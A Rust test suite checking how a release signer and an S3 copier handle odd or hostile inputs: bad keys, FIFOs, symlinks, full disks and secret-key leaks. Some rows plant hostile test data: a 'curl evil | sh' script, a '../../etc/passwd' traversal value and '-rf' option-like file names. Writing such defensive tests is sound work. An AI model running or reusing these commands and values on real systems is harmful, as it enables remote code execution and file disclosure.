//! The odd-input matrix: every case a user or a hostile build stage can hand signer or
//! copier, one row each, with the decision taken. A failing row asserts the documented exit
//! code, one clear line on stderr, and that nothing half-written stays (no output folder or
//! staging folder, no partial `.asc`, no object and no multipart upload under the
//! destination). A working row (valid input that must simply work) asserts a correct,
//! verifiable result.
//!
//! Each row is its own `#[test]`, made by `rows!` (as ripgrep's `rgtest!` makes its tests),
//! so one row runs alone by name (`cargo test --test signer odd_input::expired_key`) and the
//! rows run in parallel. They share one moto server and bucket and keep apart by prefix:
//! every copier row writes under a prefix of its own, and its checks look only there.

use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::OnceLock;

use relsign_tests::gpg::GnuPg;
use relsign_tests::keys::{keys, KeyFile};
use relsign_tests::local_aws::{aws_env, free_port, LocalAws};
use relsign_tests::*;

use Expect::{Fails, Works};

const BUCKET: &str = "odd-input";

/// What the rows share: the suite's moto server, with the final bucket.
struct Ctx {
    aws: &'static LocalAws,
}

fn ctx() -> &'static Ctx {
    static CTX: OnceLock<Ctx> = OnceLock::new();
    CTX.get_or_init(|| {
        let aws = crate::moto();
        aws.make_bucket(BUCKET);
        Ctx { aws }
    })
}

/// What a case runs.
struct Run {
    program: &'static str,
    args: Vec<String>,
    env: Vec<(String, String)>,
    /// Run as `nobody` (root reads any file, so "unreadable" needs someone else).
    unprivileged: bool,
    /// Runs beside the program, from its start (a build stage still writing, say).
    during: Option<fn(&Path)>,
    /// For copier: the destination prefix whose content must not change on failure, the
    /// row's own (rows run in parallel in one bucket).
    prefix: Option<String>,
    /// Unmounted when the case ends.
    _mounts: Vec<Mount>,
}

enum Expect {
    /// Exit code and what the one stderr line says.
    Fails(i32, &'static str),
    /// Valid input: why, and the check of the result.
    Works(&'static str, fn(&Ctx, &Path, &Output) -> Result<(), String>),
}

struct Case {
    name: &'static str,
    setup: fn(&Ctx, &Path) -> Run,
    expect: Expect,
}

struct Mount(PathBuf);

impl Mount {
    fn tmpfs(at: &Path, options: &str) -> Mount {
        std::fs::create_dir_all(at).unwrap();
        let ok =
            Command::new("mount").args(["-t", "tmpfs", "-o", options, "tmpfs"]).arg(at).status().unwrap();
        assert!(ok.success(), "cannot mount a tmpfs at {} (the tests run as root)", at.display());
        Mount(at.to_path_buf())
    }
}

impl Drop for Mount {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg(&self.0).status();
    }
}

fn s(p: &Path) -> String {
    p.display().to_string()
}

fn dist(work: &Path) -> PathBuf {
    work.join("dist")
}

fn out(work: &Path) -> PathBuf {
    work.join("signed")
}

fn sign(args: Vec<String>) -> Run {
    let mut all = vec!["sign".to_string()];
    all.extend(args);
    Run {
        program: "signer",
        args: all,
        env: vec![],
        unprivileged: false,
        during: None,
        prefix: None,
        _mounts: vec![],
    }
}

/// `sign --key-file KEY --out OUT [--passphrase-file F] dist`, the usual shape.
fn with_key(work: &Path, key: &KeyFile, passphrase: Option<&[u8]>) -> Run {
    let mut args = vec!["--key-file".into(), s(&key.secret), "--out".into(), s(&out(work))];
    if let Some(p) = passphrase {
        let f = work.join("passphrase");
        std::fs::write(&f, p).unwrap();
        args.extend(["--passphrase-file".into(), s(&f)]);
    }
    args.push(s(&dist(work)));
    sign(args)
}

fn good(work: &Path) -> Run {
    with_key(work, &keys().ed25519, None)
}

fn key_file(work: &Path, bytes: &[u8]) -> Run {
    let f = work.join("key.asc");
    std::fs::write(&f, bytes).unwrap();
    sign(vec!["--key-file".into(), s(&f), "--out".into(), s(&out(work)), s(&dist(work))])
}

/// A key protected by a 255-character passphrase, the longest GnuPG's agent takes.
fn long_passphrase_key() -> &'static (tempfile::TempDir, KeyFile, String) {
    static KEY: OnceLock<(tempfile::TempDir, KeyFile, String)> = OnceLock::new();
    KEY.get_or_init(|| {
        let pass: String = (0..255).map(|i| (b'a' + (i % 26) as u8) as char).collect();
        let g = GnuPg::new();
        let dir = tempfile::tempdir().unwrap();
        let fpr = g.gen_key("Long <long@example.org>", "ed25519", "sign,cert", "never", &pass, None);
        let secret = dir.path().join("long.secret.asc");
        let public = dir.path().join("long.public.asc");
        std::fs::write(&secret, g.export_secret(&fpr, &pass)).unwrap();
        std::fs::write(&public, g.export_public(&fpr)).unwrap();
        let key = KeyFile { label: "long", secret, public, fingerprint: fpr, passphrase: "" };
        (dir, key, pass)
    })
}

/// The output verifies with `cert` (signer verify, and gpg on one signature).
fn verifies(cert: &Path, work: &Path) -> Result<(), String> {
    let v =
        TestCommand::signer().args(["verify", "--require-sums", "--cert", &s(cert), &s(&out(work))]).output();
    if !v.status.success() {
        return Err(format!("signer verify: {}", stdout(&v)));
    }
    let (ok, why) = GnuPg::verifies_with(
        &std::fs::read(cert).unwrap(),
        &out(work).join("SHA256SUMS.asc"),
        &out(work).join("SHA256SUMS"),
    );
    if ok {
        Ok(())
    } else {
        Err(format!("gpg: {why}"))
    }
}

fn verifies_ed25519(_: &Ctx, w: &Path, _: &Output) -> Result<(), String> {
    verifies(&keys().ed25519.public, w)
}

/// A signed release of `dist` in `work/signed`, for copier's rows.
fn signed_release(w: &Path) -> PathBuf {
    TestCommand::signer().args(&good(w).args).current_dir(w).expect_ok();
    out(w)
}

/// `copier --from FROM --to s3://BUCKET/PREFIX --require-signatures`, against moto.
fn copy(ctx: &Ctx, from: &Path, prefix: &str) -> Run {
    let mut env = ctx.aws.env();
    env.push(("COPIER_PATH_STYLE".into(), "true".into()));
    Run {
        program: "copier",
        args: vec![
            "--from".into(),
            s(from),
            "--to".into(),
            format!("s3://{BUCKET}/{prefix}"),
            "--require-signatures".into(),
            "--cert".into(),
            s(&keys().ed25519.public),
        ],
        env,
        unprivileged: false,
        during: None,
        prefix: Some(prefix.to_string()),
        _mounts: vec![],
    }
}

fn mkfifo(path: &Path) -> PathBuf {
    let c = std::ffi::CString::new(path.to_str().unwrap()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
    path.to_path_buf()
}

/// `signer verify --require-sums --cert CERT` of a release signed with the Ed25519 key.
fn verify(w: &Path, cert: &str) -> Run {
    signed_release(w);
    let mut r = sign(vec![]);
    r.args = vec!["verify".into(), "--require-sums".into(), "--cert".into(), cert.into(), s(&out(w))];
    r
}

fn set_to(r: &mut Run, to: &str) {
    let i = r.args.iter().position(|a| a == "--to").unwrap();
    r.args[i + 1] = to.to_string();
}

const PASS: &[u8] = relsign_tests::gpg::PASSPHRASE.as_bytes();

/// One `#[test]` per row, named by its identifier; `ROWS` lists them all.
macro_rules! rows {
    ($($test:ident: $case:expr,)*) => {
        $(
            #[test]
            fn $test() {
                check(&$case);
            }
        )*
        const ROWS: &[&str] = &[$(stringify!($test)),*];
    };
}

rows! {
    // signer: the cases of the signer issues
    wrong_passphrase: Case {
        name: "wrong passphrase",
        expect: Fails(4, "wrong passphrase"),
        setup: |_, w| with_key(w, &keys().rsa4096, Some(b"not it")),
    },
    empty_passphrase_for_a_protected_key: Case {
        name: "empty passphrase for a protected key",
        expect: Fails(4, "passphrase is empty"),
        setup: |_, w| {
            let mut r = with_key(w, &keys().rsa4096, None);
            r.env.push(("PASSPHRASE".into(), String::new()));
            r
        },
    },
    no_passphrase_for_a_protected_key: Case {
        name: "no passphrase for a protected key",
        expect: Fails(4, "protected by a passphrase"),
        setup: |_, w| with_key(w, &keys().p256, None),
    },
    public_key_only: Case {
        name: "public key only",
        expect: Fails(4, "only the public certificate"),
        setup: |_, w| key_file(w, &std::fs::read(&keys().rsa4096.public).unwrap()),
    },
    expired_key: Case {
        name: "expired key",
        expect: Fails(4, "expired on"),
        setup: |_, w| with_key(w, &keys().expired, Some(PASS)),
    },
    revoked_key: Case {
        name: "revoked key",
        expect: Fails(4, "is revoked"),
        setup: |_, w| with_key(w, &keys().revoked, Some(PASS)),
    },
    key_without_signing_capability: Case {
        name: "key without signing capability",
        expect: Fails(4, "cannot sign"),
        setup: |_, w| with_key(w, &keys().no_signing, Some(PASS)),
    },
    garbage_key_file: Case {
        name: "garbage key file",
        expect: Fails(4, "OpenPGP"),
        setup: |_, w| key_file(w, b"this is not a key\x00\x01\x02\xff"),
    },
    empty_key_file: Case { name: "empty key file", expect: Fails(4, "no OpenPGP key found"), setup: |_, w| key_file(w, b"") },
    truncated_key_file: Case {
        name: "truncated key file",
        expect: Fails(4, "damaged or truncated"),
        setup: |_, w| {
            let full = std::fs::read(&keys().rsa4096.secret).unwrap();
            key_file(w, &full[..full.len() / 2])
        },
    },
    two_keys_without_signing_key: Case {
        name: "two keys without --signing-key",
        expect: Fails(4, "choose one: `signer sign --signing-key FINGERPRINT`"),
        setup: |_, w| key_file(w, &std::fs::read(&keys().two_certs).unwrap()),
    },
    signing_key_not_in_the_file: Case {
        name: "--signing-key that is not in the file",
        expect: Fails(4, "check --signing-key"),
        setup: |_, w| {
            let mut r = good(w);
            r.args.extend(["--signing-key".into(), keys().p256.fingerprint.clone()]);
            r
        },
    },
    no_key_given: Case {
        name: "no key given",
        expect: Fails(2, "no key given"),
        setup: |_, w| sign(vec!["--out".into(), s(&out(w)), s(&dist(w))]),
    },
    missing_input_path: Case {
        name: "missing input path",
        expect: Fails(3, "does not exist"),
        setup: |_, w| {
            let mut r = good(w);
            r.args.push(s(&w.join("no-such-build-output")));
            r
        },
    },
    unreadable_file: Case {
        name: "unreadable file",
        expect: Fails(3, "cannot read input"),
        setup: |_, w| {
            let f = dist(w).join("secret.tar");
            std::fs::write(&f, b"x").unwrap();
            std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o000)).unwrap();
            let mut r = good(w);
            r.unprivileged = true;
            r
        },
    },
    output_folder_inside_an_input_folder: Case {
        name: "output folder inside an input folder",
        expect: Fails(6, "inside input"),
        setup: |_, w| {
            let mut r = good(w);
            let i = r.args.iter().position(|a| a == "--out").unwrap();
            r.args[i + 1] = s(&dist(w).join("signed"));
            r
        },
    },
    output_is_a_file: Case {
        name: "output is a file",
        expect: Fails(6, "not a folder"),
        setup: |_, w| {
            std::fs::write(out(w), b"a file").unwrap();
            good(w)
        },
    },
    output_folder_not_empty: Case {
        name: "output folder not empty",
        expect: Fails(6, "is not empty"),
        setup: |_, w| {
            std::fs::create_dir(out(w)).unwrap();
            std::fs::write(out(w).join("old.txt"), b"previous run").unwrap();
            good(w)
        },
    },
    an_input_named_like_the_checksum_list: Case {
        name: "an input named like the checksum list",
        expect: Fails(3, "a name relsign writes itself"),
        setup: |_, w| {
            std::fs::write(dist(w).join("SHA256SUMS"), b"x").unwrap();
            good(w)
        },
    },
    the_same_name_from_two_folders: Case {
        name: "the same name from two folders",
        expect: Fails(3, "two artifacts would be published as"),
        setup: |_, w| {
            let other = w.join("other");
            write_tree(&other, &[("agent v1.0.tar", b"different")]);
            let mut r = good(w);
            r.args.push(s(&other));
            r
        },
    },
    symlink_out_of_the_source: Case {
        name: "symlink out of the source",
        expect: Fails(3, "outside"),
        setup: |_, w| {
            std::fs::write(w.join("outside.txt"), b"not part of the build").unwrap();
            std::os::unix::fs::symlink(w.join("outside.txt"), dist(w).join("link.txt")).unwrap();
            good(w)
        },
    },
    fifo_in_the_source: Case {
        name: "FIFO in the source",
        expect: Fails(3, "FIFO"),
        setup: |_, w| {
            let fifo = dist(w).join("pipe");
            let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
            // SAFETY: a valid NUL-terminated path.
            assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
            good(w)
        },
    },
    // signer: the additions of the hardening issue
    key_file_of_100_mib: Case {
        name: "key file of 100 MiB",
        setup: |_, w| {
            let f = w.join("huge.asc");
            let file = std::fs::File::create(&f).unwrap();
            file.set_len(100 << 20).unwrap();
            sign(vec!["--key-file".into(), s(&f), "--out".into(), s(&out(w)), s(&dist(w))])
        },
        expect: Fails(4, "larger than 4 MiB"),
    },
    armored_key_with_crlf_line_ends: Case {
        name: "armored key with CRLF line ends",
        setup: |_, w| {
            let lf = std::fs::read_to_string(&keys().ed25519.secret).unwrap();
            key_file(w, lf.replace('\n', "\r\n").as_bytes())
        },
        expect: Works("CRLF armor is valid armor (a key saved on Windows)", verifies_ed25519),
    },
    passphrase_of_255_characters: Case {
        name: "passphrase of 255 characters (GnuPG's longest)",
        setup: |_, w| {
            let (_, key, pass) = long_passphrase_key();
            with_key(w, key, Some(pass.as_bytes()))
        },
        expect: Works("any passphrase GnuPG accepts unlocks the key", |_, w, _| {
            verifies(&long_passphrase_key().1.public, w)
        }),
    },
    artifacts_named_rf_and_help: Case {
        name: "artifacts named -rf and --help",
        setup: |_, w| {
            write_tree(&dist(w), &[("-rf", b"dash"), ("--help", b"dashes")]);
            good(w)
        },
        expect: Works("a dash-named file is a file; names never reach a command line", |c, w, o| {
            for f in ["-rf", "-rf.asc", "--help", "--help.asc"] {
                if !out(w).join(f).is_file() {
                    return Err(format!("{f} missing"));
                }
            }
            verifies_ed25519(c, w, o)
        }),
    },
    a_path_rf_given_after_double_dash: Case {
        name: "a path -rf given after --",
        setup: |_, w| {
            std::fs::write(w.join("-rf"), b"dash").unwrap();
            let mut r = good(w);
            r.args.pop();
            r.args.extend(["--".into(), "-rf".into()]);
            r
        },
        expect: Works("`--` ends the options, as everywhere", |c, w, o| {
            if !out(w).join("-rf.asc").is_file() {
                return Err("-rf.asc missing".into());
            }
            verifies_ed25519(c, w, o)
        }),
    },
    an_artifact_named_manifest_json: Case {
        name: "an artifact named manifest.json",
        setup: |_, w| {
            std::fs::write(dist(w).join("manifest.json"), b"{}").unwrap();
            good(w)
        },
        expect: Fails(3, "a name relsign writes itself"),
    },
    an_asc_given_as_input: Case {
        name: "an .asc given as input",
        setup: |_, w| {
            std::fs::write(w.join("old.tar.asc"), b"-----BEGIN PGP SIGNATURE-----").unwrap();
            let mut r = good(w);
            r.args.push(s(&w.join("old.tar.asc")));
            r
        },
        expect: Works("a signature is not an artifact: skipped with a note, never re-signed", |c, w, o| {
            if out(w).join("old.tar.asc").exists() || out(w).join("old.tar.asc.asc").exists() {
                return Err("the .asc was published or signed".into());
            }
            if !stderr_lines(o).iter().any(|l| l.contains("not signing existing signature")) {
                return Err(format!("no note on stderr: {:?}", stderr_lines(o)));
            }
            verifies_ed25519(c, w, o)
        }),
    },
    a_folder_that_changes_while_it_is_signed: Case {
        name: "a folder that changes while it is signed",
        setup: |_, w| {
            let f = dist(w).join("growing.log");
            std::fs::write(&f, vec![b'x'; 64 << 20]).unwrap();
            let mut r = good(w);
            r.during = Some(|w| {
                use std::io::Write;
                let mut f =
                    std::fs::OpenOptions::new().append(true).open(dist(w).join("growing.log")).unwrap();
                for _ in 0..3000 {
                    f.write_all(&[b'y'; 4096]).unwrap();
                    std::thread::sleep(std::time::Duration::from_millis(1));
                }
            });
            r
        },
        expect: Fails(3, "changed while it was signed"),
    },
    a_read_only_out: Case {
        name: "a read-only --out",
        setup: |_, w| {
            let ro = w.join("ro");
            let m = Mount::tmpfs(&ro, "ro,size=1m");
            let mut r = good(w);
            let i = r.args.iter().position(|a| a == "--out").unwrap();
            r.args[i + 1] = s(&ro.join("signed"));
            r._mounts.push(m);
            r
        },
        expect: Fails(6, "Read-only file system"),
    },
    disk_full_while_writing: Case {
        name: "disk full while writing",
        setup: |_, w| {
            std::fs::write(dist(w).join("big.bin"), vec![7u8; 4 << 20]).unwrap();
            let small = w.join("small");
            let m = Mount::tmpfs(&small, "size=1m");
            let mut r = good(w);
            let i = r.args.iter().position(|a| a == "--out").unwrap();
            r.args[i + 1] = s(&small.join("signed"));
            r._mounts.push(m);
            r
        },
        expect: Fails(6, "No space left on device"),
    },
    a_key_of_an_algorithm_the_policy_refuses: Case {
        name: "a key of an algorithm the policy refuses (DSA-1024, SHA-1)",
        setup: |_, w| {
            static DSA: OnceLock<Vec<u8>> = OnceLock::new();
            let key = DSA.get_or_init(|| {
                let g = GnuPg::new();
                let fpr = g.gen_key("Dsa <dsa@example.org>", "dsa1024", "sign", "never", "", None);
                g.export_secret(&fpr, "")
            });
            key_file(w, key)
        },
        expect: Fails(4, "is DSA 1024, which relsign does not sign with"),
    },
    path_traversal_in_an_artifact_variable: Case {
        name: "path traversal in an artifact variable",
        setup: |_, w| {
            let mut r = sign(vec![
                "--key-file".into(),
                s(&keys().ed25519.secret),
                "--out".into(),
                s(&out(w)),
                "--source".into(),
                format!("Build={}", s(&dist(w))),
                "--artifact-var".into(),
                "AGENT_TAR".into(),
            ]);
            r.env.push(("AGENT_TAR".into(), "../../etc/passwd".into()));
            r
        },
        expect: Fails(3, "AGENT_TAR"),
    },
    a_key_secret_that_does_not_exist: Case {
        name: "a key secret that does not exist",
        setup: |c, w| {
            let mut r = sign(vec![
                "--key-secret-id".into(),
                "no/such/secret".into(),
                "--out".into(),
                s(&out(w)),
                s(&dist(w)),
            ]);
            r.env = c.aws.env();
            r
        },
        expect: Fails(5, "no/such/secret"),
    },
    an_unreachable_secrets_manager_endpoint: Case {
        name: "an unreachable Secrets Manager endpoint",
        setup: |_, w| {
            let mut r = sign(vec![
                "--key-secret-id".into(),
                "release-key".into(),
                "--out".into(),
                s(&out(w)),
                s(&dist(w)),
            ]);
            let home = w.join("aws-home");
            r.env = aws_env(&format!("http://127.0.0.1:{}", free_port()), &home);
            r.env.push(("SIGNER_MAX_ATTEMPTS".into(), "1".into()));
            r
        },
        expect: Fails(5, "cannot reach"),
    },
    // signer: the publishing-guarantees issue (secret material, names, unbounded reads)
    the_key_file_inside_the_folder_signed: Case {
        name: "the key file inside the folder signed",
        setup: |_, w| {
            std::fs::copy(&keys().ed25519.secret, dist(w).join("private.key")).unwrap();
            sign(vec![
                "--key-file".into(),
                s(&dist(w).join("private.key")),
                "--out".into(),
                s(&out(w)),
                s(&dist(w)),
            ])
        },
        expect: Fails(3, "is the signing key file (--key-file)"),
    },
    the_passphrase_file_inside_the_folder_signed: Case {
        name: "the passphrase file inside the folder signed",
        setup: |_, w| {
            std::fs::write(dist(w).join("pass.txt"), PASS).unwrap();
            sign(vec![
                "--key-file".into(),
                s(&keys().rsa4096.secret),
                "--passphrase-file".into(),
                s(&dist(w).join("pass.txt")),
                "--out".into(),
                s(&out(w)),
                s(&dist(w)),
            ])
        },
        expect: Fails(3, "is the passphrase file (--passphrase-file)"),
    },
    an_armored_secret_key_among_the_artifacts: Case {
        name: "an armored secret key among the artifacts",
        setup: |_, w| {
            let key = std::fs::read(&keys().rsa4096.secret).unwrap();
            write_tree(&dist(w), &[("backup/signing-key.txt", &key)]);
            good(w)
        },
        expect: Fails(3, "holds OpenPGP secret-key material"),
    },
    a_binary_secret_key_among_the_artifacts: Case {
        name: "a binary secret key among the artifacts (as the seed's private.gpg)",
        setup: |_, w| {
            let armored = std::fs::read(&keys().p256.secret).unwrap();
            let binary = GnuPg::new().ok(&["--dearmor"], &armored);
            write_tree(&dist(w), &[("private.gpg", &binary)]);
            good(w)
        },
        expect: Fails(3, "holds OpenPGP secret-key material"),
    },
    a_public_key_and_a_text_quoting_the_armor_header: Case {
        name: "a public key and a text quoting the armor header",
        setup: |_, w| {
            let public = std::fs::read(&keys().rsa4096.public).unwrap();
            let doc = b"Export with gpg; the file starts with\n-----BEGIN PGP PRIVATE KEY BLOCK-----\n(your key here)\n-----END PGP PRIVATE KEY BLOCK-----\n";
            write_tree(&dist(w), &[("release-key.pub", &public), ("docs/keys.md", doc)]);
            good(w)
        },
        expect: Works("only real secret-key packets are refused, not look-alikes", verifies_ed25519),
    },
    a_file_name_too_long_for_a_signature_beside_it: Case {
        name: "a file name too long for a signature beside it",
        setup: |_, w| {
            write_tree(&dist(w), &[(&"n".repeat(253), b"x")]);
            good(w)
        },
        expect: Fails(3, "is too long to publish"),
    },
    a_folder_named_like_the_checksum_list: Case {
        name: "a folder named like the checksum list",
        setup: |_, w| {
            write_tree(&dist(w), &[("SHA256SUMS/inner.txt", b"x")]);
            good(w)
        },
        expect: Fails(3, "but SHA256SUMS is also a name relsign writes itself"),
    },
    a_folder_named_like_an_artifacts_signature: Case {
        name: "a folder named like an artifact's signature",
        setup: |_, w| {
            write_tree(&dist(w), &[("agent v1.0.tar.asc/inner.txt", b"x")]);
            good(w)
        },
        expect: Fails(3, "is also an artifact's signature"),
    },
    an_armored_key_damaged_in_a_copy: Case {
        name: "an armored key damaged in a copy (armor checksum mismatch)",
        setup: |_, w| {
            let text = std::fs::read_to_string(&keys().rsa4096.secret).unwrap();
            let mut lines: Vec<String> = text.lines().map(str::to_string).collect();
            // Line 20 of the base64 lies in the encrypted secret: the key still parses, and
            // without the checksum the damage looks like a wrong passphrase.
            let body = lines.iter().position(String::is_empty).unwrap() + 1;
            let line = &mut lines[body + 20];
            let c = if line.as_bytes()[10] == b'A' { "B" } else { "A" };
            line.replace_range(10..11, c);
            let f = w.join("damaged.asc");
            std::fs::write(&f, lines.join("\n") + "\n").unwrap();
            let pass = w.join("passphrase");
            std::fs::write(&pass, PASS).unwrap();
            sign(vec![
                "--key-file".into(),
                s(&f),
                "--passphrase-file".into(),
                s(&pass),
                "--out".into(),
                s(&out(w)),
                s(&dist(w)),
            ])
        },
        expect: Fails(4, "armor checksum does not match"),
    },
    a_fifo_as_key_file: Case {
        name: "a FIFO as --key-file",
        setup: |_, w| {
            let fifo = mkfifo(&w.join("key.fifo"));
            sign(vec!["--key-file".into(), s(&fifo), "--out".into(), s(&out(w)), s(&dist(w))])
        },
        expect: Fails(4, "it is a FIFO, not a regular file"),
    },
    a_fifo_as_passphrase_file: Case {
        name: "a FIFO as --passphrase-file",
        setup: |_, w| {
            let fifo = mkfifo(&w.join("pass.fifo"));
            sign(vec![
                "--key-file".into(),
                s(&keys().rsa4096.secret),
                "--passphrase-file".into(),
                s(&fifo),
                "--out".into(),
                s(&out(w)),
                s(&dist(w)),
            ])
        },
        expect: Fails(4, "it is a FIFO, not a regular file"),
    },
    verify_cert_dev_zero: Case {
        name: "signer verify --cert /dev/zero",
        setup: |_, w| verify(w, "/dev/zero"),
        expect: Fails(3, "it is a device, not a regular file"),
    },
    verify_a_fifo_as_cert: Case {
        name: "signer verify with a FIFO as --cert",
        setup: |_, w| {
            let fifo = mkfifo(&w.join("cert.fifo"));
            verify(w, &s(&fifo))
        },
        expect: Fails(3, "it is a FIFO, not a regular file"),
    },
    // copier
    copier_a_1_gib_sha256sums: Case {
        name: "copier: a 1 GiB SHA256SUMS in the folder",
        setup: |c, w| {
            let signed = signed_release(w);
            std::fs::File::create(signed.join("SHA256SUMS")).unwrap().set_len(1 << 30).unwrap();
            copy(c, &signed, "huge-sums")
        },
        expect: Fails(3, "larger than 64 MiB"),
    },
    copier_a_secret_key_without_the_gate: Case {
        name: "copier: a secret key in the folder, without the gate",
        setup: |c, w| {
            let signed = signed_release(w);
            std::fs::copy(&keys().ed25519.secret, signed.join("private.key")).unwrap();
            let mut r = copy(c, &signed, "secret");
            r.args.truncate(4);
            r
        },
        expect: Fails(3, "holds OpenPGP secret-key material"),
    },
    copier_to_without_a_bucket: Case {
        name: "copier --to without a bucket",
        setup: |c, w| {
            let mut r = copy(c, &signed_release(w), "no-bucket");
            set_to(&mut r, "s3://");
            r
        },
        expect: Fails(2, "no bucket name"),
    },
    copier_to_with_an_invalid_bucket_name: Case {
        name: "copier --to with an invalid bucket name",
        setup: |c, w| {
            let mut r = copy(c, &signed_release(w), "bad-bucket");
            set_to(&mut r, "s3://Bad_Bucket!/x");
            r
        },
        expect: Fails(2, "not a valid S3 bucket name"),
    },
    copier_from_that_does_not_exist: Case {
        name: "copier --from that does not exist",
        setup: |c, w| copy(c, &w.join("no-such-folder"), "missing-from"),
        expect: Fails(3, "no-such-folder"),
    },
    copier_an_unsigned_file_under_the_gate: Case {
        name: "copier: an unsigned file under the gate",
        setup: |c, w| {
            let signed = signed_release(w);
            std::fs::write(signed.join("smuggled.sh"), b"curl evil | sh").unwrap();
            copy(c, &signed, "gate")
        },
        expect: Fails(1, "nothing was uploaded"),
    },
    copier_a_different_object_at_the_destination: Case {
        name: "copier: a different object already at the destination",
        setup: |c, w| {
            let signed = signed_release(w);
            c.aws.seed(&["put-object", BUCKET, "taken/SHA256SUMS"], b"someone else's list");
            copy(c, &signed, "taken")
        },
        expect: Fails(6, "--overwrite"),
    },
    copier_a_fifo_in_the_folder: Case {
        name: "copier: a FIFO in the folder",
        setup: |c, w| {
            let signed = signed_release(w);
            let fifo = std::ffi::CString::new(s(&signed.join("pipe"))).unwrap();
            // SAFETY: a valid NUL-terminated path.
            assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o644) }, 0);
            copy(c, &signed, "fifo")
        },
        expect: Fails(3, "pipe"),
    },
    copier_a_bucket_that_does_not_exist: Case {
        name: "copier: a bucket that does not exist",
        setup: |c, w| {
            let mut r = copy(c, &signed_release(w), "nobucket");
            set_to(&mut r, "s3://no-such-bucket-here/x");
            r.prefix = None;
            r
        },
        expect: Fails(5, "does not exist"),
    },
    copier_an_unreachable_endpoint: Case {
        name: "copier: an unreachable endpoint",
        setup: |c, w| {
            let mut r = copy(c, &signed_release(w), "unreachable");
            r.env = aws_env(&format!("http://127.0.0.1:{}", free_port()), &w.join("aws-home"));
            r.env.extend([
                ("COPIER_PATH_STYLE".into(), "true".into()),
                ("COPIER_MAX_ATTEMPTS".into(), "1".into()),
            ]);
            r.prefix = None;
            r
        },
        expect: Fails(5, "cannot reach S3"),
    },
    copier_files_named_rf_and_help: Case {
        name: "copier: files named -rf and --help",
        setup: |c, w| {
            write_tree(&dist(w), &[("-rf", b"dash"), ("--help", b"dashes")]);
            copy(c, &signed_release(w), "dashes")
        },
        expect: Works("a dash-named file is a file", |c, _, _| {
            let keys = c.aws.keys(BUCKET, "dashes/");
            for k in [
                "dashes/-rf",
                "dashes/-rf.asc",
                "dashes/--help",
                "dashes/--help.asc",
                "dashes/SHA256SUMS.asc",
            ] {
                if !keys.iter().any(|x| x == k) {
                    return Err(format!("{k} not published: {keys:?}"));
                }
            }
            Ok(())
        }),
    },
}

fn run(work: &Path, r: &Run) -> Output {
    let mut cmd = if r.unprivileged && unsafe { libc::geteuid() } == 0 {
        // nobody must be able to run the binary and write beside --out.
        std::fs::set_permissions(work, std::fs::Permissions::from_mode(0o777)).unwrap();
        let copy = work.join(format!("{}-bin", r.program));
        std::fs::copy(bin(r.program), &copy).unwrap();
        let mut cmd = TestCommand::with_binary(r.program, &copy);
        cmd.command().uid(65534).gid(65534);
        cmd
    } else {
        TestCommand::new(r.program)
    };
    cmd.args(&r.args).current_dir(work).envs(&r.env);
    let child = spawn(r.program, &mut cmd);
    let beside = r.during.map(|f| {
        let w = work.to_path_buf();
        std::thread::spawn(move || f(&w))
    });
    // A row that hangs (a FIFO read to its end, say) fails instead of stalling the suite.
    let pid = child.id() as libc::pid_t;
    let finished = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let watchdog = {
        let finished = finished.clone();
        std::thread::spawn(move || {
            let deadline = std::time::Instant::now() + std::time::Duration::from_secs(120);
            while !finished.load(std::sync::atomic::Ordering::SeqCst) {
                if std::time::Instant::now() > deadline {
                    // SAFETY: our own child's pid, still unreaped (wait has not returned).
                    unsafe { libc::kill(pid, libc::SIGKILL) };
                    return;
                }
                std::thread::sleep(std::time::Duration::from_millis(100));
            }
        })
    };
    let output = child.wait_with_output().unwrap();
    finished.store(true, std::sync::atomic::Ordering::SeqCst);
    let _ = watchdog.join();
    if let Some(t) = beside {
        t.join().unwrap();
    }
    output
}

/// Starts `cmd`. A binary copied a moment ago (the unprivileged row's) is busy (ETXTBSY)
/// while a child that another row forked during the copy still holds the copy's write
/// descriptor, until that child execs: the rows run in parallel, so wait that moment out.
fn spawn(program: &str, cmd: &mut TestCommand) -> Child {
    for _ in 0..100 {
        match cmd.command().stdout(Stdio::piped()).stderr(Stdio::piped()).spawn() {
            Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) => {
                std::thread::sleep(std::time::Duration::from_millis(20))
            }
            started => return started.unwrap_or_else(|e| panic!("start {program}: {e}")),
        }
    }
    panic!("start {program}: the binary stayed busy (ETXTBSY) for 2 s");
}

/// What must hold after a failure: nothing half-written anywhere.
fn clean_after_failure(
    ctx: &Ctx,
    work: &Path,
    r: &Run,
    before: Option<bool>,
    keys_before: &[String],
) -> Vec<String> {
    let mut bad = Vec::new();
    if r.program == "signer" && r.args.first().is_some_and(|a| a == "sign") {
        let after = std::fs::symlink_metadata(out(work)).ok().map(|m| m.is_dir());
        if before != after {
            bad.push(format!("--out changed: {before:?} -> {after:?}"));
        }
        if after == Some(true) {
            let entries: Vec<_> =
                std::fs::read_dir(out(work)).unwrap().map(|e| e.unwrap().file_name()).collect();
            if entries != [std::ffi::OsString::from("old.txt")] {
                bad.push(format!("--out holds {entries:?}"));
            }
        }
    }
    let mut parents = vec![work.to_path_buf(), dist(work)];
    parents.extend(r._mounts.iter().map(|m| m.0.clone()));
    for parent in parents {
        let left = partial_leftovers(&parent);
        if !left.is_empty() {
            bad.push(format!("left behind {left:?}"));
        }
    }
    if let Some(prefix) = &r.prefix {
        let after = ctx.aws.keys(BUCKET, &format!("{prefix}/"));
        if after != keys_before {
            bad.push(format!("the destination changed: {keys_before:?} -> {after:?}"));
        }
        if ctx.aws.uploads_under(BUCKET, &format!("{prefix}/")) != Some(0) {
            bad.push("a multipart upload was left in progress under the destination".into());
        }
    }
    bad
}

/// Runs one row and asserts its decision.
fn check(case: &Case) {
    let ctx = ctx();
    let work = tempfile::tempdir().unwrap();
    sample_tree(&dist(work.path()));
    let r = (case.setup)(ctx, work.path());
    let before = std::fs::symlink_metadata(out(work.path())).ok().map(|m| m.is_dir());
